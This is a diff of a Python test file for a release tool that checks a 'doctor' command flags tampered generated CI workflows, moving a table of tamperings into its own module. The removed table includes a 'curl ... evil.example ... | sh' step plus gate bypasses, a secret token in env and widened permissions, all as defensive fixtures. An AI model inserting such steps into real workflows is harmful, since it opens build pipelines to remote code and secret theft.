@@ -12,6 +12,7 @@ import pytest
 import tomlkit
 
 from tests.commands.projects import MAKERS
+from tests.diagnose.tampering import TAMPERINGS
 from tests.helpers import git, run, tagship
 
 REMOTE = "git@github.com:acme/rocket.git"
@@ -169,43 +170,6 @@ def test_a_shallow_clone_fails_not_shallow(adopted: Path, tmp_path: Path) -> Non
     assert statuses(report)["TS430"] == "failed"
 
 
-GATE_LINE = '"$RUNNER_TEMP/tagship-env/bin/tagship" gate --no-cache'
-# Issue 13's tampering: each breaks an invariant (the rule named) as well as TS428.
-TAMPERINGS: dict[str, tuple[Callable[[Path], None], str]] = {
-    "curl | sh before the build": (
-        _edit(RELEASE, "run: uv build", "run: curl -sSf https://evil.example/i | sh && uv build"),
-        "TS452",
-    ),
-    "gate replaced by true": (_edit(RELEASE, GATE_LINE, "true"), "TS450"),
-    "gate failure ignored": (_edit(RELEASE, GATE_LINE, GATE_LINE + " || true"), "TS450"),
-    "check replaced by true": (
-        _edit(RELEASE, "run: uv run --no-sync tagship check --dist dist/", 'run: "true"'),
-        "TS450",
-    ),
-    "verify may fail": (
-        _edit(
-            RELEASE,
-            "      - name: Install the published version and smoke-test it\n",
-            "      - name: Install the published version and smoke-test it\n"
-            "        continue-on-error: true\n",
-        ),
-        "TS450",
-    ),
-    "publish without the gates": (
-        _edit(RELEASE, "needs: [build, gates]", "needs: build"),
-        "TS450",
-    ),
-    "a token secret in env": (
-        _edit(RELEASE, "GH_TOKEN: ${{ github.token }}", "GH_TOKEN: ${{ secrets.RELEASE_PAT }}"),
-        "TS451",
-    ),
-    "permissions widened": (
-        _edit(RELEASE, "contents: read # check out", "contents: write # check out"),
-        "TS422",
-    ),
-}
-
-
 def _opt_out(path: Path) -> None:
     document = tomlkit.parse((path / "pyproject.toml").read_text(encoding="utf-8"))
     tool = document.setdefault("tool", tomlkit.table())
@@ -221,10 +185,15 @@ def _doctor_after(adopted: Path, project: Path, change: Callable[[Path], None]) 
     return report
 
 
+def _tamper(name: str) -> Callable[[Path], None]:
+    old, new, _ = TAMPERINGS[name]
+    return _edit(RELEASE, old, new)
+
+
 @pytest.mark.parametrize("tampering", sorted(TAMPERINGS))
 def test_a_tampered_generated_workflow_fails(adopted: Path, tmp_path: Path, tampering: str) -> None:
-    tamper, rule = TAMPERINGS[tampering]
-    report = _doctor_after(adopted, tmp_path / "project", tamper)
+    rule = TAMPERINGS[tampering][2]
+    report = _doctor_after(adopted, tmp_path / "project", _tamper(tampering))
     found = {finding["id"]: finding for finding in report["rules"]}
     assert found["TS428"]["status"] == "failed"
     assert found["TS428"]["message"].startswith(
@@ -235,15 +204,16 @@ def test_a_tampered_generated_workflow_fails(adopted: Path, tmp_path: Path, tamp
     assert found[rule]["status"] == "failed", found[rule]
 
 
-@pytest.mark.parametrize("tampering", sorted(TAMPERINGS))
+# Each tampering against the invariants alone: tests/diagnose/test_workflow_invariants.py.
+@pytest.mark.parametrize("tampering", ["curl | sh before the build", "verify may fail"])
 def test_an_own_workflow_is_held_to_the_invariants(
     adopted: Path, tmp_path: Path, tampering: str
 ) -> None:
-    tamper, rule = TAMPERINGS[tampering]
+    rule = TAMPERINGS[tampering][2]
 
     def own_and_tampered(path: Path) -> None:
         _opt_out(path)
-        tamper(path)
+        _tamper(tampering)(path)
 
     report = _doctor_after(adopted, tmp_path / "project", own_and_tampered)
     failed = {rule["id"] for rule in report["rules"] if rule["status"] == "failed"}
